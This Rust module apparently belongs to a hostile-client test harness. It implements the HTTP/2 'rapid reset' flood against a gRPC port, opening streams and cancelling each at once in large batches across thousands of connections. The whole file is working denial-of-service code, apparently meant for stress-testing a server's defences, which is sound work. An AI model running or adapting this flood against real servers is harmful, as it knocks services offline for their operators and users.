//! Rapid reset: streams that are reset at once, so that none counts as open.

use std::time::Duration;

use crate::hostile::attacker::{Attacker, DiscardingConnection};
use crate::hostile::wire::{self, flag, kind};

/// Interval between two batches of a port.
const EVERY: Duration = Duration::from_millis(50);
const BATCH: u32 = 50;
const BATCHES_OF_A_CONNECTION: u32 = 20;
const CONNECTIONS_MAX: usize = 5_000;
/// The error code CANCEL.
const CANCEL: [u8; 4] = [0, 0, 0, 8];

pub(super) async fn run(mut attacker: Attacker) {
    let headers = wire::headers(&wire::grpc(wire::methods(attacker.port.kind)[0]));
    for _ in 0..CONNECTIONS_MAX {
        tokio::time::sleep(EVERY).await;
        let Some(stream) = attacker.connect().await else { continue };
        let mut deaf = DiscardingConnection::to(stream, attacker.pace.clone());
        let mut goes_on = attacker.write(&mut deaf.write, &wire::opening()).await;
        for batch in 0..BATCHES_OF_A_CONNECTION {
            if !goes_on {
                attacker.counts.ended();
                break;
            }
            let streams = (batch * BATCH..(batch + 1) * BATCH).map(|number| 2 * number + 1);
            let begun_and_reset = streams.flat_map(|id| {
                let begun = wire::frame(kind::HEADERS, flag::END_HEADERS, id, &headers);
                [begun, wire::frame(kind::RST_STREAM, flag::NONE, id, &CANCEL)].concat()
            });
            attacker.counts.sent(BATCH.into());
            goes_on = attacker.write(&mut deaf.write, &begun_and_reset.collect::<Vec<_>>()).await;
            tokio::time::sleep(EVERY).await;
        }
    }
}
